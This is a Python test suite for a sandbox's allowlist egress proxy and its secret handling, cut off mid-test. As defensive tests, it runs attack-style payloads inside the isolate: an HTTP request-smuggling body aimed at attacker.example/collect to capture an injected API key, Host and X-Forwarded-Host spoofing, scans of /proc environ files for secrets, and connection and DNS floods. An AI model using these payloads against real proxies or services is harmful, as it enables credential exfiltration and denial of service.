"""network_policy "allowlist": the egress proxy is an isolate's only way out, and its secrets stay outside.

Every test crosses the boundary for real: a process isolate, the host's proxy
in its network namespace, HTTP and HTTPS servers on the host's loopback
(tests/egress_harness.py).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade import Policy, Sandbox
from stockade.egress.gate import ADMIT_BURST, ADMIT_PER_S
from stockade.egress.worker import REFUSAL_WINDOW_S
from stockade.errors import PolicyError, RuntimeUnavailableError
from stockade.result import EgressRequest
from stockade.runtimes.manager import RuntimeManager
from tests.conftest import require
from tests.egress_harness import SECRET_VALUE, Upstreams, serve_upstreams


@pytest.fixture(scope="module")
def up() -> Iterator[Upstreams]:
    yield from serve_upstreams()


@pytest.fixture(scope="module")
def manager() -> Iterator[RuntimeManager]:
    require("process")
    mgr = RuntimeManager(pool_size=0)
    yield mgr
    mgr.close()


def allow(up: Upstreams, *hosts: str, secrets: tuple[str, ...] = (), **fields: object) -> Policy:
    """A policy that lets the isolate reach ``hosts`` (names of the harness, on both servers' ports)."""
    allowed = [f"{h}:{p}" for h in hosts for p in (up.http.port, up.https.port)]
    grants = [{"name": s, "hosts": [f"api.stockade.test:{up.https.port}", f"api.stockade.test:{up.http.port}"]}
              for s in secrets]  # fmt: skip
    return Policy(network_policy="allowlist", allowed_hosts=allowed, allowed_cidrs=["127.0.0.0/8"], secrets=grants,
                  timeout_seconds=60, **fields)  # type: ignore[arg-type]  # fmt: skip


FETCH = """
import json, os, ssl, sys, urllib.request
def fetch(url, headers=None, verify=True):
    context = None if verify else ssl._create_unverified_context()
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=20, context=context) as reply:
            return reply.status, reply.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()
    except Exception as exc:
        return None, f"{type(exc).__name__}: {exc}"
def via_proxy(url):  # urllib honours NO_PROXY (the isolate's own loopback): straight to the proxy instead
    import http.client
    connection = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
    connection.request("GET", url)
    reply = connection.getresponse()
    return reply.status, reply.read().decode()
"""


def run(sb: Sandbox, code: str) -> tuple[dict[str, object], object]:
    result = sb.run_code(FETCH + code)
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1]), result


def test_a_direct_connection_fails_where_the_same_request_through_the_proxy_succeeds(
    up: Upstreams, manager: RuntimeManager
) -> None:
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, result = run(
            sb,
            f"""
import socket
def direct(address):
    s = socket.socket(socket.AF_INET6 if ":" in address[0] else socket.AF_INET)
    s.settimeout(5)
    try:
        s.connect(address)
        return "connected"
    except OSError as exc:
        return exc.strerror
    finally:
        s.close()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    udp.sendto(b"query", ("198.51.100.7", 53))
    datagram = "sent"
except OSError as exc:
    datagram = exc.strerror
# The same from an address whose low 32 bits are zero (a page at 0x200000000): it went unreported.
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype, libc.mmap.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                                                         ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.sendto.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
high = libc.mmap(0x200000000, 4096, 3, 0x22 | 0x100000, -1, 0)  # MAP_FIXED_NOREPLACE
ctypes.memmove(high, struct.pack("<H", 2) + struct.pack("!H4s8x", 53, socket.inet_aton("198.51.100.8")), 16)
high_sent = libc.sendto(udp.fileno(), b"query", 5, 0, high, 16) if high == 0x200000000 else "not mapped"
no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
try:
    no_proxy.open("http://api.stockade.test:{up.http.port}/direct", timeout=5)
    ignored = "reached"
except Exception as exc:
    ignored = type(exc).__name__
print(json.dumps({{
    "host_loopback": direct(("127.0.0.1", {up.http.port})),
    "outside": direct(("192.0.2.1", 80)),
    "outside_v6": direct(("2001:db8::1", 80)),
    "ignoring_the_proxy": ignored,
    "datagram": datagram,
    "high_sent": high_sent,
    "through_the_proxy": fetch("http://api.stockade.test:{up.http.port}/via-proxy"),
}}))
""",
        )
    assert out["host_loopback"] == "Connection refused"  # its own loopback: nothing of the host's there
    assert out["outside"] == out["outside_v6"] == out["datagram"] == "Network is unreachable"
    assert out["high_sent"] == -1
    # Each direct attempt is reported, with where it tried to go; its own loopback is not an attempt.
    direct = sorted(v.description.split(" refused")[0] for v in result.security_violations)  # type: ignore[attr-defined]
    assert direct == [
        "connect to 192.0.2.1:80",
        "connect to [2001:db8::1]:80",
        "sendto to 198.51.100.7:53",
        "sendto to 198.51.100.8:53",
    ]
    assert {v.detection_layer for v in result.security_violations} == {"NETWORK"}  # type: ignore[attr-defined]
    assert out["ignoring_the_proxy"] == "URLError"  # no name service, no route: nowhere to go
    status, body = out["through_the_proxy"]  # type: ignore[misc]
    assert status == 200 and json.loads(body)["path"] == "/via-proxy"
    assert len([r for r in result.egress_requests if r.allowed]) == 1  # type: ignore[attr-defined]


def test_a_host_outside_the_list_is_refused_and_reported(up: Upstreams, manager: RuntimeManager) -> None:
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, result = run(
            sb,
            f"""
print(json.dumps({{
    "plain": fetch("http://other.stockade.test:{up.http.port}/"),
    "tls": fetch("https://other.stockade.test:{up.https.port}/"),
    "far": fetch("https://example.com/"),
    "literal": via_proxy("http://127.0.0.1:{up.http.port}/"),
}}))
""",
        )
    assert out["plain"][0] == 403 and "not in allowed_hosts" in out["plain"][1]  # type: ignore[index]
    for key in ("tls", "far"):
        assert "403" in out[key][1]  # type: ignore[index]  # urllib: "Tunnel connection failed: 403"
    assert out["literal"][0] == 200  # type: ignore[index]  # an address in allowed_cidrs may be reached by address
    refused = [r for r in result.egress_requests if not r.allowed]  # type: ignore[attr-defined]
    assert {(r.host, r.method) for r in refused} >= {
        ("other.stockade.test", "GET"),
        ("other.stockade.test", "CONNECT"),
        ("example.com", "CONNECT"),
    }
    layers = {v.detection_layer for v in result.security_violations}  # type: ignore[attr-defined]
    assert layers == {"NETWORK"}
    assert result.violation_counts["network_egress"] == len(refused)  # type: ignore[attr-defined]
    assert all("refused" in v.description for v in result.security_violations)  # type: ignore[attr-defined]


def test_an_allowed_name_that_resolves_to_a_private_address_is_refused_unless_its_network_is_named(
    up: Upstreams, manager: RuntimeManager
) -> None:
    hosts = [f"api.stockade.test:{up.http.port}"]
    before = len(up.http.seen)
    policy = Policy(network_policy="allowlist", allowed_hosts=hosts, timeout_seconds=60)
    with Sandbox(policy, manager=manager) as sb:
        out, result = run(
            sb,
            f"""
print(json.dumps({{"named": fetch("http://api.stockade.test:{up.http.port}/"),
                   "address": via_proxy("http://127.0.0.1:{up.http.port}/")}}))
""",
        )
    assert out["named"][0] == 403 and "may not reach (127.0.0.1)" in out["named"][1]  # type: ignore[index]
    assert out["address"][0] == 403  # type: ignore[index]
    assert len(up.http.seen) == before  # nothing reached the server
    assert len(result.security_violations) == 2  # type: ignore[attr-defined]


def test_the_secret_reaches_only_its_host_only_in_its_header_and_its_echo_comes_back_redacted(
    up: Upstreams, manager: RuntimeManager
) -> None:
    before = len(up.https.seen)
    with Sandbox(allow(up, "api.stockade.test", "other.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        out, result = run(
            sb,
            f"""
handle = os.environ["API_KEY"]
headers = {{"Authorization": "Bearer " + handle, "X-Api-Key": handle}}
print(handle)
print(json.dumps({{
    "handle": handle,
    "bound": fetch("https://api.stockade.test:{up.https.port}/bound", headers),
    "plain": fetch("http://api.stockade.test:{up.http.port}/plain", headers),
    "other": fetch("https://other.stockade.test:{up.https.port}/other", headers, verify=False),
}}))
""",
        )
    handle = str(out["handle"])
    assert handle.startswith("stockade-secret-") and SECRET_VALUE not in handle
    bound, other = up.https.seen[before:]
    # The bound host got the value in the bound header, and nowhere else.
    assert bound["authorization"] == f"Bearer {SECRET_VALUE}"
    assert bound["x-api-key"] == handle
    # Another host (allowed, TLS tunnelled end to end) got the handle as it was sent.
    assert other["authorization"] == f"Bearer {handle}" and SECRET_VALUE not in json.dumps(other)
    # Plain HTTP, even to the bound host, never carries the value: only TLS the proxy verified does.
    assert up.http.seen[-1]["authorization"] == f"Bearer {handle}"
    # The echo came back into the isolate with the value turned back into the handle: body and headers.
    status, body = out["bound"]  # type: ignore[misc]
    assert status == 200 and SECRET_VALUE not in body
    assert json.loads(body)["headers"]["authorization"] == f"Bearer {handle}"
    assert result.secrets_redacted == 2  # type: ignore[attr-defined]  # the body's echo and X-Echo-Authorization
    assert result.stdout.splitlines()[0] == handle  # a program that prints its handle prints only the handle
    used = {(r.host, r.path): r.secrets_used for r in result.egress_requests}  # type: ignore[attr-defined]
    assert used[("api.stockade.test", "/bound")] == ["API_KEY"]
    assert used[("api.stockade.test", "/plain")] == []
    assert SECRET_VALUE not in result.to_json()


def test_a_value_the_host_echoes_escaped_comes_back_as_the_handle(up: Upstreams, manager: RuntimeManager) -> None:
    """The upstream echoes headers in JSON, which escapes the value's quote and backslash: matched
    only as its bytes, the escaped value passed every redaction, for the code to unescape."""
    from tests.egress_harness import ODD_VALUE

    with Sandbox(allow(up, "api.stockade.test", secrets=("ODD_KEY",)), manager=manager) as sb:
        out, result = run(
            sb,
            f"""
handle = os.environ["ODD_KEY"]
status, body = fetch("https://api.stockade.test:{up.https.port}/odd", {{"Authorization": handle}})
print(body)
print(json.dumps({{"handle": handle, "status": status, "echoed": json.loads(body)["headers"]["authorization"]}}))
""",
        )
    assert up.https.seen[-1]["authorization"] == f"Bearer {ODD_VALUE}"  # the host got the value
    assert out["status"] == 200 and out["echoed"] == f"Bearer {out['handle']}"  # the code got its handle back
    assert json.dumps(ODD_VALUE)[1:-1] not in result.stdout and ODD_VALUE not in result.stdout
    assert result.secrets_redacted == 2  # type: ignore[attr-defined]  # the body's echo and X-Echo-Authorization


def test_no_secret_value_inside_the_isolate_and_what_leaves_it_is_redacted(
    up: Upstreams, manager: RuntimeManager
) -> None:
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        found = sb.run_code(f"""
import os
value = {SECRET_VALUE!r}.encode()
hits = [k for k, v in os.environ.items() if value in v.encode()]
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"):
    try:
        if value in open(path, "rb").read():
            hits.append(path)
    except OSError:
        pass
for top in ("/tmp", "/work", "/etc", "/dev/shm"):
    for root, dirs, files in os.walk(top):
        for name in files:
            try:
                if value in open(os.path.join(root, name), "rb").read():
                    hits.append(os.path.join(root, name))
            except OSError:
                pass
print(hits)
""")
        assert found.stdout == "[]\n", found.stderr
        # Were the value to get in (here, the host writes it), nothing carries it back out.
        sb.write_file("/tmp/leak.txt", f"key={SECRET_VALUE}\n")
        leaked = sb.run_code(
            "import sys; data = open('/tmp/leak.txt').read(); print(data); print(data, file=sys.stderr)"
        )
        assert SECRET_VALUE not in leaked.stdout + leaked.stderr
        assert leaked.stdout == "key=[REDACTED:API_KEY]\n\n"
        assert leaked.secrets_redacted == 2
        assert sb.read_file("/tmp/leak.txt") == b"key=[REDACTED:API_KEY]\n"
        cell = sb.run_code("open('/tmp/leak.txt').read()", session="s")
        assert SECRET_VALUE not in cell.to_json() and "[REDACTED:API_KEY]" in cell.to_json()


def test_a_secret_the_policy_does_not_bind_is_not_given(up: Upstreams, manager: RuntimeManager) -> None:
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        result = sb.run_code("import os; print(os.environ.get('OTHER_KEY'))")
    assert result.stdout == "None\n"


def test_an_unknown_secret_is_refused_before_anything_runs(up: Upstreams, manager: RuntimeManager) -> None:
    from stockade.errors import PolicyError

    policy = Policy(network_policy="allowlist", allowed_hosts=["api.stockade.test"],
                    secrets=["NOT_THERE@api.stockade.test"])  # fmt: skip
    with pytest.raises(PolicyError, match="NOT_THERE"):
        Sandbox(policy, manager=manager).run_code("print(1)")


def test_pip_installs_through_the_proxy_and_not_without_it(up: Upstreams, manager: RuntimeManager) -> None:
    from tests.egress_harness import serve_index

    with serve_index() as index:
        url = f"http://api.stockade.test:{index.port}/simple"
        command = ["python3", "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check", "--index-url",
                   url, "--trusted-host", "api.stockade.test", "--target", "/tmp/site", "stockade-probe"]  # fmt: skip
        policy = Policy(network_policy="allowlist", allowed_hosts=[f"api.stockade.test:{index.port}"],
                        allowed_cidrs=["127.0.0.0/8"], timeout_seconds=120, disk_mb=64)  # fmt: skip
        with Sandbox(policy, manager=manager) as sb:
            installed = sb.exec(command)
            assert installed.exit_code == 0, installed.stdout + installed.stderr
            probe = sb.exec(["python3", "-c", "import sys; sys.path.insert(0, '/tmp/site'); import stockade_probe;"
                                              "print(stockade_probe.ANSWER)"])  # fmt: skip
            assert probe.stdout == "42\n"
        closed = Policy(network_policy="loopback", timeout_seconds=120)
        with Sandbox(closed, manager=manager) as sb:
            refused = sb.exec([*command[:-1], "--retries", "0", "--timeout", "5", "stockade-probe"])
        assert refused.exit_code != 0


def test_runtimes_without_a_proxy_refuse_the_allowlist(manager: RuntimeManager) -> None:
    policy = Policy(runtime="gvisor", network_policy="allowlist", allowed_hosts=["example.com"])
    with pytest.raises(RuntimeUnavailableError, match="allowlist"):
        manager.select(policy)


def test_an_isolate_with_secrets_is_served_from_the_warm_pool(up: Upstreams) -> None:
    require("process")
    mgr = RuntimeManager(pool_size=1)
    try:
        runtime = mgr.get("process")
        from stockade.sdk import run_code

        for n in range(3):  # two misses make the shape join the pool; then it is served warm
            policy = allow(up, "api.stockade.test", secrets=("API_KEY",) if n % 2 else ())
            shown = run_code("import os; print(os.environ['HTTP_PROXY'])", policy=policy, manager=mgr)
            assert shown.stdout == "http://127.0.0.1:3128\n", shown.stderr
            runtime.wait_ready(30)  # type: ignore[attr-defined]
        result = run_code(
            f"import urllib.request, os\nr = urllib.request.Request('https://api.stockade.test:{up.https.port}/warm',"
            " headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})\n"
            "print(urllib.request.urlopen(r, timeout=20).status)",
            policy=allow(up, "api.stockade.test", secrets=("API_KEY",)),
            manager=mgr,
        )
        assert result.stdout == "200\n", result.stderr
        assert up.https.seen[-1]["authorization"] == f"Bearer {SECRET_VALUE}"
        stats = runtime.pool_statistics()  # type: ignore[attr-defined]
        assert stats["served"] >= 2 and stats["shapes"] == 2, stats
    finally:
        mgr.close()


def test_through_the_daemon_the_result_and_the_audit_log_name_each_request_and_never_the_value(
    up: Upstreams,
) -> None:
    require("process")

    from stockade.client import Client
    from tests.daemon_harness import start_daemon

    env = {k: v for k, v in os.environ.items() if k.startswith(("STOCKADE_EGRESS", "STOCKADE_SECRETS_FILE"))}
    daemon = start_daemon(env=env)
    try:
        policy = allow(up, "api.stockade.test", secrets=("API_KEY",))
        code = (
            "import os, urllib.request\n"
            f"r = urllib.request.Request('https://api.stockade.test:{up.https.port}/daemon',"
            " headers={'Authorization': 'Bearer ' + os.environ['API_KEY']})\n"
            "print(urllib.request.urlopen(r, timeout=20).read().decode())\n"
            "try:\n    urllib.request.urlopen('http://elsewhere.example/', timeout=20)\n"
            "except Exception as exc:\n    print(exc)\n"
        )
        with Client(daemon.socket_path) as client:
            result = client.execute(code=code, policy=policy.to_dict())
        assert result.exit_code == 0, result.stderr
        assert up.https.seen[-1]["authorization"] == f"Bearer {SECRET_VALUE}"
        assert SECRET_VALUE not in result.to_json() and result.secrets_redacted == 2  # body, X-Echo header
        assert [(r.host, r.allowed, r.secrets_used) for r in result.egress_requests] == [
            ("api.stockade.test", True, ["API_KEY"]),
            ("elsewhere.example", False, []),
        ]
        daemon.stop()
        with open(daemon.audit_log) as f:
            records = [json.loads(line) for line in f]
        execution = next(r for r in records if r.get("execution_id") == result.execution_id and "egress" in r)
        assert [(e["host"], e["allowed"], e["substituted"]) for e in execution["egress"]] == [
            ("api.stockade.test", True, ["API_KEY"]),
            ("elsewhere.example", False, []),
        ]
        assert execution["redactions"] == 2
        with open(daemon.audit_log) as f:
            assert SECRET_VALUE not in f.read()
        assert SECRET_VALUE not in daemon.logs()
    finally:
        daemon.cleanup()


def test_a_secret_stored_with_no_hosts_is_for_a_library_not_for_a_daemons_callers(
    up: Upstreams, manager: RuntimeManager, tmp_path: Path
) -> None:
    # Any caller of a daemon may grant its secrets: one stored with no hosts could be bound to the
    # caller's own server, and its value sent there (every local user, through a token-less HTTP API).
    require("process")
    from stockade.client import Client
    from tests.daemon_harness import start_daemon

    hostless = tmp_path / "secrets.json"
    hostless.write_text(json.dumps({"API_KEY": SECRET_VALUE}))
    hostless.chmod(0o600)
    env = {k: v for k, v in os.environ.items() if k.startswith("STOCKADE_EGRESS")}
    env["STOCKADE_SECRETS_FILE"] = str(hostless)
    policy = allow(up, "api.stockade.test", secrets=("API_KEY",))
    daemon = start_daemon(env=env)
    try:
        with Client(daemon.socket_path) as client, pytest.raises(PolicyError, match="is not granted for") as refused:
            client.execute(["true"], policy=policy.to_dict())
        assert "names no hosts" not in str(refused.value)  # a caller is not told; the daemon's log says why
        assert "names no hosts it may be sent" in daemon.logs()
    finally:
        daemon.cleanup()
    # The one trusted program that uses stockade as a library may.
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("STOCKADE_SECRETS_FILE", str(hostless))
        with Sandbox(policy, manager=manager) as sb:
            assert sb.exec(["true"]).success


def test_names_resolve_through_the_host_for_allowed_hosts_only(up: Upstreams, manager: RuntimeManager) -> None:
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        out, result = run(
            sb,
            """
import socket
def lookup(name):
    try:
        return sorted({info[4][0] for info in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)})
    except socket.gaierror as exc:
        return exc.strerror
print(json.dumps({"allowed": lookup("api.stockade.test"), "refused": lookup("evil.example.com")}))
""",
        )
    assert out["allowed"] == ["127.0.0.1"]  # what the proxy would connect to (allowed_cidrs names it)
    assert isinstance(out["refused"], str)  # no address for a name outside the list
    refused = [r for r in result.egress_requests if r.scheme == "dns"]  # type: ignore[attr-defined]
    assert {(r.host, r.allowed) for r in refused} == {("evil.example.com", False)}
    assert result.violation_counts["network_egress"] >= 1  # type: ignore[attr-defined]


REPLY_TRICKS = """
import gzip, http.client, json, os, ssl
handle = os.environ["API_KEY"]
def tunnel(path, headers, target=None, method="GET"):
    conn = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=20, context=ssl.create_default_context())
    conn.set_tunnel("api.stockade.test", {port})
    conn.request(method, target or path, headers={{"Authorization": "Bearer " + handle, **headers}})
    reply = conn.getresponse()
    body = reply.read()
    if reply.getheader("Content-Encoding") == "gzip":
        body = gzip.decompress(body)
    return {{"status": reply.status, "head": dict(reply.getheaders()), "body": body.decode(errors="replace")}}
print(json.dumps({{
    "asked_gzip": tunnel("/asked", {{"Accept-Encoding": "gzip"}}),
    "gzip_anyway": tunnel("/gzip-anyway", {{}}),
    "fronted": tunnel("/fronted", {{"Host": "other.stockade.test"}}),
    "absolute": tunnel("/", {{}}, target="https://other.stockade.test/abs"),
    "schemeless": tunnel("/", {{}}, target="//other.stockade.test/abs"),
    "routed": tunnel("/routed", {{"X-Forwarded-Host": "other.stockade.test", "Forwarded": "host=other.stockade.test",
                                 "X-Original-URL": "/admin"}}),
    "name_echo": tunnel("/name-echo", {{}}),
}}))
"""


def test_no_reply_trick_gets_the_value_into_the_isolate(up: Upstreams, manager: RuntimeManager) -> None:
    """Compressed bodies, echoed headers, a Host aimed at another origin, an absolute URL in the tunnel."""
    before = len(up.https.seen)
    with Sandbox(allow(up, "api.stockade.test", "other.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        result = sb.run_code(REPLY_TRICKS.format(port=up.https.port))
    assert result.exit_code == 0, result.stderr
    # The output is as the isolate saw it: nothing needed redacting on its way out.
    out = json.loads(result.stdout.strip().splitlines()[-1])
    assert SECRET_VALUE not in result.stdout and "[REDACTED" not in result.stdout
    asked = out["asked_gzip"]
    assert asked["status"] == 200 and "gzip" not in json.dumps(asked["head"]).lower()  # asked for identity
    assert asked["head"]["x-echo-authorization"].startswith("Bearer stockade-secret-")  # h11 writes names lowercased
    assert out["gzip_anyway"]["status"] == 502 and "compressed" in out["gzip_anyway"]["body"]
    assert out["absolute"]["status"] == 400 and out["schemeless"]["status"] == 400
    assert out["name_echo"]["status"] == 502 and "in a header's name" in out["name_echo"]["body"]
    seen = up.https.seen[before:]
    assert [s["host"] for s in seen] == [f"api.stockade.test:{up.https.port}"] * 5  # never the fronted origin
    assert all(s["accept-encoding"] == "identity" for s in seen)
    routed = seen[3]  # what a front routes by instead of Host: not passed on to a bound host
    assert not {"x-forwarded-host", "forwarded", "x-original-url"} & set(routed), routed


def test_a_reply_without_a_body_says_nothing_of_the_values_length(up: Upstreams, manager: RuntimeManager) -> None:
    """A HEAD's reply kept the host's Content-Length: that of the body the value was echoed in."""
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        tunnel = REPLY_TRICKS.split("print(json.dumps(", maxsplit=1)[0].format(port=up.https.port)
        result = sb.run_code(tunnel + 'print(json.dumps(tunnel("/", {}, method="HEAD")))')
    assert result.exit_code == 0, result.stderr
    head = json.loads(result.stdout.strip().splitlines()[-1])
    assert head["status"] == 200 and head["body"] == "", head
    assert "content-length" not in {k.lower() for k in head["head"]}, head
    assert head["head"]["x-echo-authorization"].startswith("Bearer stockade-secret-")
    assert result.secrets_redacted == 1  # the echoed header, once
    (request,) = result.egress_requests
    assert request.method == "HEAD" and request.bytes_received == 0, request


# Inside the isolate: a tunnel opened through the proxy by hand (``s``, its answer's head in ``head``).
CONNECT = r"""
import os, socket, ssl, time
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(4096)
"""

SMUGGLE = (
    CONNECT.replace("{target}", "api.stockade.test:{port}")
    + r"""
t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname="api.stockade.test")
inner = b"GET /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n"
body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
t.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
t.sendall(b"GET /second HTTP/1.1\r\nHost: x\r\nAuthorization: " + os.environ["API_KEY"].encode() + b"\r\n\r\n")
reply = b""
while chunk := t.recv(65536):
    reply += chunk
print(reply.split(b"\r\n", 1)[0].decode())
"""
)


def test_a_request_framed_two_ways_never_reaches_a_bound_host(up: Upstreams, manager: RuntimeManager) -> None:
    """Content-Length and chunks at once, in the tunnel to a bound host: passed on as it came, a host
    that went by the length read the chunks as a request of the isolate's own (any Host), which took
    the proxy's next request, the value filled in, as its body."""
    before = len(up.https.seen)
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        result = sb.run_code(SMUGGLE.format(port=up.https.port))
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip() == "HTTP/1.1 400 Bad Request", result.stdout
    assert up.https.seen[before:] == []  # not the request, not what its body held, not the one behind it
    (refused,) = result.egress_requests
    assert not refused.allowed and refused.reason.startswith("a request framed two ways") and not refused.secrets_used


def test_a_bound_host_on_plain_http_gives_back_only_the_handle(up: Upstreams, manager: RuntimeManager) -> None:
    """No value is put into plain HTTP, but a bound host may send one back: compressed, the proxy
    could not see it, so it asks for identity and refuses a compressed reply; in clear, it is turned
    back into the handle before the isolate reads it."""
    code = f"""
import gzip, json, urllib.request
def get(path):
    request = urllib.request.Request("http://api.stockade.test:{up.http.port}" + path,
                                     headers={{"Accept-Encoding": "gzip"}})
    try:
        with urllib.request.urlopen(request, timeout=20) as reply:
            body = reply.read()
            if reply.headers.get("Content-Encoding") == "gzip":
                body = gzip.decompress(body)
            return reply.status, body.decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()
print(json.dumps({{"asked": get("/leak"), "anyway": get("/gzip-anyway/leak"),
                  "split": get("/gzip-anyway-split/leak")}}))
"""
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        handle = sb.run_code("import os; print(os.environ['API_KEY'])").stdout.strip()
        result = sb.run_code(code)
    out = json.loads(result.stdout.strip().splitlines()[-1])
    assert out["asked"] == [200, f"the key is {handle}\n"]  # identity asked for, the value turned back
    assert out["anyway"][0] == 502 and "compressed" in out["anyway"][1]
    assert out["split"][0] == 502 and "compressed" in out["split"][1]  # each Content-Encoding header is read
    assert SECRET_VALUE not in result.stdout and "[REDACTED" not in result.stdout


def test_a_background_processs_output_is_redacted(up: Upstreams, manager: RuntimeManager) -> None:
    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
        sb.write_file("/tmp/leak.txt", SECRET_VALUE)
        process = sb.spawn(["cat", "/tmp/leak.txt"])
        assert process.wait(30) == 0
        stdout, _ = process.read()
    assert stdout == b"[REDACTED:API_KEY]"


def test_a_handle_is_worth_nothing_in_another_sandbox(up: Upstreams, manager: RuntimeManager) -> None:
    policy = allow(up, "api.stockade.test", secrets=("API_KEY",))
    with Sandbox(policy, manager=manager) as first, Sandbox(policy, manager=manager) as second:
        theirs = first.run_code("import os; print(os.environ['API_KEY'])").stdout.strip()
        mine = second.run_code("import os; print(os.environ['API_KEY'])").stdout.strip()
        assert theirs != mine and theirs.startswith("stockade-secret-")
        sent = second.run_code(
            "import urllib.request\n"
            f"r = urllib.request.Request('https://api.stockade.test:{up.https.port}/stolen', "
            f"headers={{'Authorization': 'Bearer {theirs}'}})\n"
            "print(urllib.request.urlopen(r, timeout=20).status)"
        )
    assert sent.stdout == "200\n", sent.stderr
    assert up.https.seen[-1]["authorization"] == f"Bearer {theirs}"  # sent as it was: not the value
    assert sent.egress_requests[-1].secrets_used == []


def test_the_proxy_bounds_what_one_isolate_can_hold_open_and_refuses_garbage(
    up: Upstreams, manager: RuntimeManager
) -> None:
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        result = sb.run_code("""
import json, socket, time
held = []
for _ in range(100):  # more than a sandbox may hold open at once
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    held.append(s)
import select
open_, refused, deadline = list(held), 0, time.monotonic() + 30
while refused < 100 - 64 and open_ and time.monotonic() < deadline:  # as the proxy gets to each
    readable, _, _ = select.select(open_, [], [], 1.0)  # closed by the proxy: readable, and at their end
    for s in readable:
        open_.remove(s)
        try:
            refused += s.recv(1) == b""
        except OSError:
            refused += 1
for s in held:
    s.close()
junk = socket.create_connection(("127.0.0.1", 3128), timeout=5)
junk.sendall(b"\\x16\\x03\\x01 not http at all\\r\\n\\r\\n")
answer = junk.recv(200)
huge = socket.create_connection(("127.0.0.1", 3128), timeout=5)
try:
    huge.sendall(b"GET http://api.stockade.test/ HTTP/1.1\\r\\nX: " + b"a" * 200000 + b"\\r\\n\\r\\n")
except OSError:
    pass
print(json.dumps({"refused": refused, "junk": answer[:12].decode(errors="replace"),
                  "huge": huge.recv(200)[:12].decode(errors="replace")}))
""")
        out = json.loads(result.stdout.strip().splitlines()[-1])
        assert out["refused"] >= 100 - 64  # past the cap, connections are closed at once
        assert out["junk"].startswith("HTTP/1.1 400") and out["huge"].startswith("HTTP/1.1 431")
        # The proxy still serves this sandbox afterwards.
        again = sb.run_code(
            f"import urllib.request; print(urllib.request.urlopen('http://api.stockade.test:{up.http.port}/', "
            "timeout=20).status)"
        )
        assert again.stdout == "200\n", again.stderr


EGRESS_FLOOD = """
import json, socket, time
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setblocking(False)
query = bytes.fromhex("abcd01000001000000000000") + b"\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01"
sent = answered = junk = 0
for _ in range(20):  # not HTTP: refused and counted too
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"\\x16\\x03\\x01 not http\\r\\n\\r\\n")
    junk += s.recv(12).startswith(b"HTTP/1.1 400")
    s.close()
end = time.monotonic() + 2
while time.monotonic() < end:
    for _ in range(50):
        try:
            sock.sendto(query, ("127.0.0.1", 53))
            sent += 1
        except BlockingIOError:
            break
    try:
        while True:
            sock.recv(512)
            answered += 1
    except BlockingIOError:
        pass
sock.settimeout(2)  # the last answers, on a slow host
try:
    while True:
        sock.recv(512)
        answered += 1
except OSError:
    pass
print(json.dumps({"sent": sent, "answered": answered, "junk": junk}))
"""


def test_a_flood_of_refused_requests_costs_the_host_a_message_a_window_and_is_counted(
    up: Upstreams, manager: RuntimeManager
) -> None:
    """Before, each refused query or request cost the worker a record and a message to its keeper,
    and the keeper a violation each: ~1.3 cores of the host's for a sandbox allowed 0.25. Now the
    first refusal is said at once, the rest of a burst once a window, and past the isolate's rate a
    query is dropped unread (counted as a request not recorded)."""
    with Sandbox(allow(up, "api.stockade.test"), manager=manager) as sb:
        egress = sb._sandbox.egress
        assert egress is not None
        said: list[int] = []
        worker_refused = egress.worker.on_refused
        assert worker_refused is not None

        def counting(request: EgressRequest, times: int) -> None:
            said.append(times)
            worker_refused(request, times)

        egress.worker.on_refused = counting
        out, result = run(sb, EGRESS_FLOOD)
        assert out["junk"] == 20
        answered = int(out["answered"])  # type: ignore[call-overload]
